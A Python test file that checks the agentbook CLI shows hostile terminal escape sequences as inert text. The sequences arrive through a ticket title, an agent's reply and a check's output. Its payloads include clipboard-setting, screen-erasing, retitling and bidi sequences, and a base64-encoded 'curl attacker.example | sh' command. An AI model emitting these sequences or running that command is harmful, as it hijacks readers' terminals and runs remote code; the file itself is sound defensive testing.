"""Attacks on the terminal of whoever reads agentbook's output. A ticket's title, the agent's last words
and a check's output (a file the agent wrote) carry escape sequences: OSC 52 sets the reader's clipboard
(a command they then paste), CSI sequences move the cursor and erase the lines above (a failed run that
reads as green), OSC 0 retitles the window, the one-byte C1 CSI (U+009B) does the same without an ESC,
and bidirectional overrides reorder what is shown. agentbook prints no escape sequence of its own, so
every one it would print is shown as text (`\\u001b`), in human output and in `--json` alike (where the
escape is the same character, so the JSON stays valid and equal).

A real run (scripted agent, real git, the jail for the check), then `agentbook runs show`, through the
CLI's own output streams and, as a reader would see it, in a pseudo-terminal."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

from tests.repos import git

ESCAPES = {
    "osc52": "\x1b]52;c;Y3VybCBhdHRhY2tlci5leGFtcGxlIHwgc2g=\x07",
    "erase": "\x1b[2A\x1b[2K",
    "title": "\x1b]0;all green\x07",
    "c1_csi": "\x9b31m",
    "bidi": "\u202e",
    "backspace": "\b\b\b\r",
}
HOSTILE = "".join(f"ATTACK-{name}{seq}" for name, seq in ESCAPES.items())
TICKET = f"---\nid: 7\ntitle: {json.dumps(HOSTILE)}\nrunbook: probe\n---\nLook.\n"
RUNBOOK = """---
name: probe
description: One step whose check shows a file the agent wrote.
tools: [write]
limits: {max_turns: 6, gate_retries: 0}
branch: "agentbook/probe/{ticket.id}"
---
Probe the terminal.

## Probe

Write out.txt.

```check
cat out.txt && false
```
"""
SCRIPT = {"version": 1, "model": "scripted",
          "sessions": [{"name": "probe", "match": {"system": 'agentbook runbook "probe"'}, "turns": [
              {"tool_use": {"name": "write", "input": {"path": "out.txt", "content": HOSTILE + "\n"}}},
              {"text": "Done. " + HOSTILE}]}]}


def _on_a_terminal(*args: str) -> bytes:
    """What `agentbook ARGS` writes to a terminal (a pseudo-terminal is its stdout and stderr)."""
    main, side = pty.openpty()
    try:
        proc = subprocess.Popen([sys.executable, "-m", "agentbook", *args], stdin=subprocess.DEVNULL, stdout=side,
                                stderr=side, env={**os.environ, "TERM": "xterm-256color"})
        os.close(side)
        out = b""
        while True:
            try:
                chunk = os.read(main, 65536)
            except OSError:  # EIO: the other side is closed
                break
            if not chunk:
                break
            out += chunk
        proc.wait(timeout=120)
    finally:
        os.close(main)
    return out


def _acting(text: str) -> list[str]:
    """The characters in `text` a terminal would act on."""
    return sorted({repr(c) for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f
                   or 0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069})


def test_escape_sequences_from_a_ticket_a_check_and_the_agent_reach_no_terminal(run_cli, git_repo: Path,
                                                                               tmp_path: Path) -> None:
    (git_repo / "runbooks").mkdir()
    (git_repo / "runbooks" / "probe.md").write_text(RUNBOOK)
    git(git_repo, "add", "-A")
    git(git_repo, "commit", "-q", "-m", "probe runbook")
    (tmp_path / "T.md").write_text(TICKET)
    script = tmp_path / "probe.script.yaml"
    script.write_text(json.dumps(SCRIPT))

    ran = run_cli("run", "--ticket", tmp_path / "T.md", "--repo", git_repo, "--model", f"scripted:{script}")
    assert ran.code == 11, ran.err  # the check fails: blocked, its output in the result and the report
    run_id = json.loads(run_cli("runs", "list", "--repo", git_repo, "--json").out)[0]["run_id"]
    outputs = {"run": ran, "runs show": run_cli("runs", "show", run_id, "--repo", git_repo),
               "runs show --json": run_cli("runs", "show", run_id, "--repo", git_repo, "--json")}
    for name, result in outputs.items():
        for stream, text in (("stdout", result.out), ("stderr", result.err)):
            assert _acting(text) == [], (name, stream, _acting(text))
    on_tty = _on_a_terminal("runs", "show", run_id, "--repo", str(git_repo)).decode("utf-8", "replace")
    assert "ATTACK-title" in on_tty and _acting(on_tty.replace("\r\n", "\n")) == []
    shown = outputs["runs show"].out
    assert "ATTACK-osc52\\u001b]52;c;" in shown and "ATTACK-c1_csi\\u009b31m" in shown  # shown, as text
    # --json: the escapes decode back to the very characters (the record is kept as it was)
    record = json.loads(outputs["runs show --json"].out)
    assert record["ticket"]["title"] == HOSTILE
